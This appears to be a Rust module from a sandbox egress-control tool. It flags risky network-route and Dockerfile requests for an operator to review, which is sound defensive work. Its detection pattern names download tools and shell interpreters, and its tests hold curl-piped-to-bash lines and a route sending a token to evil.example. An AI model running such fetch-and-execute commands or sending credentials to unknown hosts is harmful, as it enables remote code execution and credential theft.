//! What an operator should look at twice before saying yes. A flag blocks nothing; its absence promises nothing.

use contract::{Ask, HostName, RouteAsk, RouteTable};
use serde::Serialize;

/// One thing to mind.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Risk {
    /// For programs, such as `new_host`.
    pub flag: &'static str,
    /// For people.
    pub text: String,
}

/// Public package registries: whoever can publish there can have code run in the bottle, and what is published there is public. One
/// reason for all of them, so they are a list of names.
const REGISTRIES: &[&str] = &[
    "pypi.org",
    "files.pythonhosted.org",
    "upload.pypi.org",
    "test.pypi.org",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "crates.io",
    "index.crates.io",
    "static.crates.io",
    "rubygems.org",
    "proxy.golang.org",
    "repo.maven.apache.org",
    "repo1.maven.org",
    "plugins.gradle.org",
    "api.nuget.org",
    "packagist.org",
    "hex.pm",
    "registry-1.docker.io",
    "ghcr.io",
    "quay.io",
];

/// What there is to compare an ask with.
pub struct Known<'a> {
    /// The table in force.
    pub table: &'a RouteTable,
    /// The Dockerfile in force, where there is one.
    pub dockerfile: Option<&'a str>,
    /// Whether any route or audit entry of this home has ever named a host.
    pub seen_before: &'a dyn Fn(&HostName) -> bool,
}

/// The flags of an ask.
pub fn of(ask: &Ask, known: &Known<'_>) -> Vec<Risk> {
    match ask {
        Ask::EgressBlock(asked) => route(&asked.ask, known),
        Ask::PipelockBlock(asked) => {
            let mut risks = host(&asked.host, known);
            if let Some(rule) = &asked.rule {
                risks.push(Risk {
                    flag: "exemption",
                    text: format!("what the rule {rule} finds may leave to {}", asked.host),
                });
            }
            risks
        }
        Ask::CapabilityBlock(asked) => dockerfile(&asked.dockerfile, known.dockerfile),
    }
}

fn host(host: &HostName, known: &Known<'_>) -> Vec<Risk> {
    let mut risks = Vec::new();
    if !(known.seen_before)(host) {
        risks.push(Risk {
            flag: "new_host",
            text: format!("no bottle of yours has had {host} before"),
        });
    }
    if REGISTRIES.contains(&host.as_str()) {
        risks.push(Risk {
            flag: "registry",
            text: format!("{host} is a package registry: what is installed from there runs in the bottle"),
        });
    }
    if host.as_str().split('.').any(|label| label.starts_with("xn--")) {
        risks.push(Risk {
            flag: "punycode",
            text: format!("{host} holds letters outside of ASCII, and may look like another name"),
        });
    }
    risks
}

fn route(ask: &RouteAsk, known: &Known<'_>) -> Vec<Risk> {
    let mut risks = host(&ask.host, known);
    let lasting = known.table.lasting(&ask.host);
    if let Some(auth) = &ask.auth {
        let elsewhere: Vec<&str> = known
            .table
            .routes()
            .iter()
            .filter(|route| route.host != ask.host)
            .filter(|route| {
                route
                    .auth
                    .as_ref()
                    .is_some_and(|other| other.token_ref == auth.token_ref)
            })
            .map(|route| route.host.as_str())
            .collect();
        let text = match (lasting, elsewhere.as_slice()) {
            (Some(_), _) => format!(
                "it asks for {} at {}; the credential of a known host is left as it is",
                auth.token_ref, ask.host
            ),
            (None, []) => format!("your {} would be sent to {}", auth.token_ref, ask.host),
            (None, hosts) => format!(
                "your {}, which so far goes to {}, would also be sent to {}",
                auth.token_ref,
                hosts.join(", "),
                ask.host
            ),
        };
        risks.push(Risk {
            flag: "credential",
            text,
        });
    }
    if let Some(auth) = lasting.and_then(|route| route.auth.as_ref()) {
        risks.push(Risk {
            flag: "credential_reach",
            text: format!(
                "requests to {} carry your {}: more of them would",
                ask.host, auth.token_ref
            ),
        });
    }
    if lasting.is_none() && ask.path_allowlist.is_empty() {
        risks.push(Risk {
            flag: "whole_host",
            text: format!("every path of {} would be open", ask.host),
        });
    }
    let writes = |method: &contract::Method| !matches!(method.as_str(), "GET" | "HEAD" | "OPTIONS");
    if ask.methods.iter().any(writes) || (lasting.is_none() && ask.methods.is_empty()) {
        risks.push(Risk {
            flag: "writes",
            text: format!("methods that send data to {} would be open", ask.host),
        });
    }
    risks
}

fn dockerfile(asked: &str, present: Option<&str>) -> Vec<Risk> {
    let mut risks = Vec::new();
    let instructions = instructions(asked);
    let (froms, before) = (froms(asked), froms(present.unwrap_or_default()));
    if froms != before {
        let told = |froms: &[String]| match froms {
            [] => "nothing".to_owned(),
            froms => contract::text::harmless(&froms.join(", ")),
        };
        risks.push(Risk {
            flag: "from_changed",
            text: format!("FROM changes: {} becomes {}", told(&before), told(&froms)),
        });
    }
    if instructions.iter().any(|line| pipes_into_a_shell(line)) {
        risks.push(Risk {
            flag: "curl_sh",
            text: "it runs what it downloads (a download piped into a shell)".to_owned(),
        });
    }
    let user = instructions
        .iter()
        .rev()
        .find_map(|line| line.strip_prefix("user ").map(|user| user.trim().to_owned()));
    if user.as_deref().is_some_and(is_root) {
        risks.push(Risk {
            flag: "user_root",
            text: "it ends as USER root".to_owned(),
        });
    }
    if instructions
        .iter()
        .any(|line| line.starts_with("add ") && (line.contains("http://") || line.contains("https://")))
    {
        risks.push(Risk {
            flag: "add_url",
            text: "it adds a file from the network".to_owned(),
        });
    }
    risks
}

/// Instructions with their continuation lines, lower case, single blanks, without comments.
fn instructions(text: &str) -> Vec<String> {
    let mut whole = Vec::new();
    let mut line = String::new();
    for part in text.lines().filter(|part| !part.trim_start().starts_with('#')) {
        let (part, continued) = match part.trim_end().strip_suffix('\\') {
            Some(part) => (part, true),
            None => (part, false),
        };
        line.push(' ');
        line.push_str(part);
        if !continued {
            let words: Vec<&str> = line.split_whitespace().collect();
            whole.push(words.join(" ").to_lowercase());
            line.clear();
        }
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    whole.push(words.join(" ").to_lowercase());
    whole.retain(|line| !line.is_empty());
    whole
}

fn froms(text: &str) -> Vec<String> {
    instructions(text)
        .iter()
        .filter_map(|line| line.strip_prefix("from "))
        .filter_map(|line| {
            line.split(' ')
                .find(|word| !word.starts_with("--"))
                .map(str::to_owned)
        })
        .collect()
}

fn pipes_into_a_shell(line: &str) -> bool {
    let downloads = ["curl ", "wget "].iter().any(|word| line.contains(word));
    let shells = [
        "sh", "bash", "zsh", "dash", "ash", "python", "python3", "perl", "node", "ruby",
    ];
    let piped = line.split('|').skip(1).any(|command| {
        command
            .split_whitespace()
            .filter(|word| !matches!(*word, "sudo" | "env" | "-e"))
            .map(|word| word.rsplit('/').next().unwrap_or(word))
            .next()
            .is_some_and(|program| shells.contains(&program))
    });
    let substituted = [
        "sh -c \"$(",
        "bash -c \"$(",
        "<(curl",
        "<(wget",
        "eval \"$(",
        "eval $(",
    ]
    .iter()
    .any(|form| line.contains(form));
    downloads && (piped || substituted)
}

fn is_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or(user);
    name == "root" || name == "0"
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags(ask: serde_json::Value, table: &str, dockerfile: Option<&str>) -> Vec<&'static str> {
        let ask: Ask = serde_json::from_value(ask).unwrap();
        let table = format!("schema_version: 1\ngeneration: 1\nroutes:\n{table}");
        let table = RouteTable::parse(table.as_bytes()).unwrap();
        let known = Known {
            table: &table,
            dockerfile,
            seen_before: &|host| table.knows(host),
        };
        of(&ask, &known).into_iter().map(|risk| risk.flag).collect()
    }

    fn route(arguments: serde_json::Value) -> Vec<&'static str> {
        let table = "- host: api.example\n  path_allowlist: [/x/]\n  auth: {scheme: Bearer, token_ref: T, token_env: EGRESS_TOKEN_0}\n";
        flags(
            serde_json::json!({"tool": "egress-block", "arguments": arguments}),
            table,
            None,
        )
    }

    #[test]
    fn a_route_is_flagged_by_what_it_opens() {
        use serde_json::json;
        assert_eq!(
            route(
                json!({"host": "new.example", "methods": ["GET"], "path_allowlist": ["/a/"], "justification": "x"})
            ),
            ["new_host"]
        );
        assert_eq!(
            route(json!({"host": "pypi.org", "justification": "x"})),
            ["new_host", "registry", "whole_host", "writes"]
        );
        assert_eq!(
            route(json!({"host": "api.example", "path_allowlist": ["/y/"], "justification": "x"})),
            ["credential_reach"]
        );
        let stolen = json!({"host": "evil.example", "methods": ["GET"], "path_allowlist": ["/a/"],
                            "auth": {"scheme": "Bearer", "token_ref": "T"}, "justification": "x"});
        assert_eq!(route(stolen), ["new_host", "credential"]);
    }

    #[test]
    fn a_dockerfile_is_flagged_by_what_it_does() {
        let capability = |text: &str| {
            let ask = serde_json::json!({"tool": "capability-block", "arguments": {"dockerfile": text, "justification": "x"}});
            flags(ask, "- host: api.example\n", Some("FROM debian:12\nUSER agent\n"))
        };
        assert_eq!(
            capability("FROM debian:12\nRUN apt-get install -y jq\nUSER agent\n"),
            [""; 0]
        );
        assert_eq!(capability("FROM evil:1\n"), ["from_changed"]);
        assert_eq!(
            capability(
                "from debian:12\nRUN curl -fsSL https://x.example \\\n # a comment\n  | sudo /bin/bash -s\n"
            ),
            ["curl_sh"]
        );
        assert_eq!(
            capability("FROM debian:12\nRUN bash -c \"$(curl -fsSL https://x.example)\"\n"),
            ["curl_sh"]
        );
        assert_eq!(
            capability("FROM debian:12\nUSER agent\nUSER 0:0\n"),
            ["user_root"]
        );
        assert_eq!(capability("FROM debian:12\nUSER root\nUSER agent\n"), [""; 0]);
    }
}
